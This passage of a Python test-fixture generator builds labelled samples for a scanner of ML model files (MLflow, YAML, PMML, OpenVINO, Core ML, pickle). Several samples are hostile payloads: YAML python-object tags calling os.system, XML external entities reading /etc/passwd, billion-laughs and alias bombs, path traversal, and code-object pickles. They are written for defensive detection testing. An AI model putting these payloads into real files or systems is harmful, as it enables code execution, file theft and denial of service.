    add("unsafe", "MDL-REP-002", "merged_from_list", merged + "[{a: 1}, *x]\n")
    add("unsafe", "MDL-REP-002", "in_braces", '{"flavors": {"python_function": {"loader_module": "my_loader"}}}')
    add("clean", "none", "own_flavor", mlmodel("loader_module: mlflow.xgboost"))
    add("clean", "none", "alias", mlmodel(more="a: &x {b: 1}\nc: *x\n"))
    add("clean", "none", "quoted", mlmodel('loader_module: "mlflow.sklearn"'))
    for what, line in {"module": "loader_module: my_loader", "prefix": "loader_module: mlflow_evil", "os": "loader_module: os", "code": "code: code", "code_paths": "code_paths: [a.py]", "from_code": "model_code_path: model.py",
                       "python_model": "python_model: python_model.pkl"}.items():
        add("unsafe", "MDL-REP-002", what, mlmodel("loader_module: mlflow.pyfunc.model\n    " + line if not line.startswith("loader") else line))
    add("unsafe", "MDL-REP-002", "code_of_flavor", mlmodel(sklearn="code: src"))
    add("unsafe", "MDL-REP-007", "data_up", mlmodel("data: ../../x"))
    add("unsafe", "MDL-REP-007", "data_absolute", mlmodel("model_path: /etc/passwd"))
    add("unsafe", "MDL-REP-009", "tag", mlmodel(more="x: !!python/object/apply:os.system ['id']\n"))
    add("unparseable", "MDL-REP-008", "twice", mlmodel(more="run_id: x\n"))
    add("unparseable", "MDL-REP-008", "broken", mlmodel(more="x: [\n"))
    add("unparseable", "MDL-REP-008", "circle", mlmodel(more="x: &a [*a]\n"))
    bomb = "a0: &a0 [1,1,1,1,1,1,1,1,1]\n" + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9))
    add("unparseable", "MDL-REP-008", "bomb", mlmodel(more=bomb))
    add("unparseable", "MDL-REP-008", "no_flavors", "flavors: 1\nrun_id: x\n")
    add("unsafe", "MDL-REP-009", "yaml_apply", "a: !!python/object/apply:os.system ['id']\n", "yaml")
    add("unsafe", "MDL-REP-009", "yaml_new", "- !!python/object/new:os.popen [x]\n", "yml")
    add("unsafe", "MDL-REP-009", "yaml_name", "a: !!python/name:os.system\n", "yaml")
    add("unsafe", "MDL-REP-009", "yaml_full", "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n", "yaml")
    add("unsafe", "MDL-REP-009", "yaml_handle", "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object/apply:os.system [x]\n", "yaml")
    add("unsafe", "MDL-REP-009", "yaml_then_broken", "a: !!python/name:os.system\nb: [\n", "yaml")
    add("clean", "none", "yaml_tuple", "a: !!python/tuple [1, 2]\n", "yaml")
    add("clean", "none", "yaml_words", "a: 'use !!python/name:os.system'\n", "yaml")
    add("not_a_model", "none", "yaml_plain", "a: 1\n", "yaml")


# --- XML ----------------------------------------------------------------------------------------------------------------------------------

def pmml(inside="", before="", root='<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">'):
    return (f'<?xml version="1.0"?>\n{before}{root}<Header><Application name="x"/></Header><DataDictionary><DataField name="a" optype="continuous"/></DataDictionary>'
            f'<TreeModel functionName="classification"><Node id="1"><True/></Node></TreeModel>{inside}</PMML>')


def openvino(layer='<layer id="0" name="a" type="Parameter" version="opset1"/>', data="", before=""):
    return f'<?xml version="1.0"?>{before}<net name="m" version="11"><layers>{layer}<layer id="1" name="b" type="Const" version="opset1">{data}</layer></layers></net>'


def make_pmml():
    def add(verdict, code, what, content, suffix="pmml"):
        sample("pmml", verdict, code, what, content, suffix)
    add("clean", "none", "plain", pmml())
    add("clean", "none", "no_suffix", pmml(), "xml")
    add("clean", "none", "prefix", '<p:PMML xmlns:p="u" version="4.4"><p:Header/></p:PMML>')
    add("clean", "none", "function", pmml('<Apply function="log10"/><Apply function="+"/>'))
    add("clean", "none", "extension", pmml('<Extension name="x" value="y">text</Extension>'))
    add("clean", "none", "own_entity", pmml("<a>&y;</a>", '<!DOCTYPE PMML [<!ENTITY y "z">]>'))
    add("clean", "none", "openvino", openvino(data='<data offset="0" size="64"/>'), "xml")
    entity = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    add("unsafe", "MDL-XML-001", "entity", pmml("<a>&x;</a>", entity))
    add("unsafe", "MDL-XML-001", "entity_unused", pmml("", entity))
    add("unsafe", "MDL-XML-001", "entity_public", pmml("", '<!DOCTYPE PMML [<!ENTITY x PUBLIC "-//x" "http://x/y">]>'))
    add("unsafe", "MDL-XML-001", "parameter_entity", pmml("", '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://x/y.dtd"> %x;]>'))
    add("unsafe", "MDL-XML-001", "doctype", pmml("", '<!DOCTYPE PMML SYSTEM "http://x/y.dtd">'))
    add("unsafe", "MDL-XML-001", "inclusion", pmml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'))
    add("unsafe", "MDL-XML-001", "openvino_empty", '<!DOCTYPE net [<!ENTITY % x SYSTEM "http://x/y"> %x;]><net name="x" version="11"><layers/><edges/></net>', "xml")
    add("unsafe", "MDL-XML-001", "openvino_entity", openvino(before='<!DOCTYPE net [<!ENTITY x SYSTEM "file:///x">]>'), "xml")
    add("unsafe", "MDL-XML-004", "openvino_offset", openvino(data='<data offset="99999999999999999999" size="1"/>'), "xml")
    add("unsafe", "MDL-XML-004", "openvino_negative", openvino(data='<data offset="-1" size="1"/>'), "xml")
    add("suspicious", "MDL-XML-002", "class", pmml('<Apply function="java.lang.Runtime"/>'))
    add("suspicious", "MDL-XML-002", "script", pmml('<Extension name="x">&lt;script&gt;1&lt;/script&gt;</Extension>'))
    add("suspicious", "MDL-XML-002", "script_value", pmml('<Extension name="script" value="1"/>'))
    add("suspicious", "MDL-XML-002", "stylesheet", pmml("", '<?xml-stylesheet href="x.xsl"?>'))
    add("suspicious", "MDL-XML-003", "openvino_extension", openvino('<layer id="0" name="a" type="Mine" version="extension"/>'), "xml")
    add("suspicious", "MDL-XML-003", "openvino_generic", openvino('<layer id="0" name="a" type="generic" version="opset1"/>'), "xml")
    add("unparseable", "MDL-XML-004", "cut", pmml()[:-20])
    add("unparseable", "MDL-XML-004", "no_entity", pmml("<a>&unknown;</a>"))
    add("unparseable", "MDL-XML-004", "other_root", "<other><PMML/></other>")
    add("unparseable", "MDL-XML-004", "deep", pmml("<a>" * 5100 + "</a>" * 5100))
    laughs = '<!DOCTYPE PMML [<!ENTITY a0 "' + "x" * 40 + '">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)) + "]>"
    add("unparseable", "MDL-XML-004", "laughs", pmml("<a>&a11;</a>", laughs))


# --- Core ML --------------------------------------------------------------------------------------------------------------------------------

def coreml(kind, content, version=4):
    return pb(1, version) + pb(2, pb(100, pb(3, "me"))) + pb(kind, content)


def make_coreml():
    def add(verdict, code, what, content, suffix="mlmodel"):
        sample("coreml", verdict, code, what, content, suffix)
    layer = pb(1, "a") + pb(2, "x") + pb(3, "y") + pb(140, b"")
    custom = pb(1, "a") + pb(500, pb(10, "Layer"))
    network = coreml(500, pb(1, layer))
    add("clean", "none", "network", network)
    add("clean", "none", "no_suffix", network, "bin")
    add("clean", "none", "program", coreml(502, pb(1, 1)))
    add("clean", "none", "pipeline", coreml(202, pb(1, network) + pb(1, network)))
    add("clean", "none", "package", json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": "com.apple.CoreML/model.mlmodel"}}}), "json")
    add("suspicious", "MDL-CML-001", "custom", coreml(555, pb(10, "Mine")))
    for what, kind in {"layer": 500, "layer_of_classifier": 403, "layer_of_regressor": 303}.items():
        add("suspicious", "MDL-CML-001", what, coreml(kind, pb(1, layer) + pb(1, custom)))
    add("suspicious", "MDL-CML-001", "in_pipeline", coreml(202, pb(1, coreml(500, pb(1, custom)))))
    add("suspicious", "MDL-CML-001", "in_pipeline_classifier", coreml(200, pb(1, pb(1, coreml(555, pb(10, "Mine"))))))
    add("suspicious", "MDL-CML-002", "linked", coreml(556, pb(1, pb(1, pb(1, "other.mlmodelc")))))
    add("unsafe", "MDL-CML-002", "linked_up", coreml(556, pb(1, pb(1, pb(1, "../../x")))))
    add("unsafe", "MDL-CML-002", "linked_path", coreml(556, pb(1, pb(1, pb(1, "x")) + pb(2, pb(1, "/etc")))))
    add("unsafe", "MDL-CML-002", "package_up", json.dumps({"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"path": "../../x"}}}), "json")
    deep = network
    for _ in range(20):
        deep = coreml(202, pb(1, deep))
    add("unparseable", "MDL-CML-003", "deep", deep)
    add("unparseable", "MDL-CML-003", "no_kind", pb(1, 4) + pb(2, b""))
    add("unparseable", "MDL-CML-003", "cut_inside", coreml(500, pb(1, layer)[:-1] + b"\x7f"))
    add("unparseable", "MDL-REP-006", "other", b"\x08\x04\x7f")


# --- functions by value --------------------------------------------------------------------------------------------------------------------

def code_pickle(module, name, before=(), names=("os", "system")):
    """A call of module.name with the arguments of a code object, put together without any."""
    arguments = (*before, 1, 0, 0, 1, 2, 67, b"\x97\x00", (None, "id"), names, ("x",), "<stdin>", "predict", "predict", 1, b"", b"", (), ())
    inside = pickle.dumps(arguments, 2)[2:-1]
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + inside + b"R."


def make_byvalue():
    for what, content in {"types": code_pickle("types", "CodeType"), "dill": code_pickle("dill._dill", "_create_code", (b"",)), "no_names": code_pickle("types", "CodeType", names=()),
                          "computed": b"\x80\x02ccloudpickle.cloudpickle\n_builtin_type\n(X\x08\x00\x00\x00CodeTypetR" + code_pickle("a", "b")[7:]}.items():
        sample("byvalue", "unsafe", "MDL-PKL-010", what, content, "pkl")
    sample("byvalue", "unsafe", "MDL-PKL-002", "other_call", b"\x80\x02cmy.module\nf\n" + pickle.dumps((1, b"", (), (1,), (), "a", "b", 1, 2, 3, 4), 2)[2:-1] + b"R.", "pkl")


def main():
    make_pmml()
    make_coreml()
    make_byvalue()
    make_notebook()
    make_huggingface()
    make_mlflow()
    make_xgboost()
    make_lightgbm()
    make_catboost()
    make_skops()
    for folder, files in SAMPLES.items():
        (HERE / folder).mkdir(exist_ok=True)
        for old in (HERE / folder).iterdir():
            if ".real_" not in old.name:
                old.unlink()
        for name, content in files.items():
            (HERE / folder / name).write_bytes(content)
        print(folder, len(files))


if __name__ == "__main__":
    main()
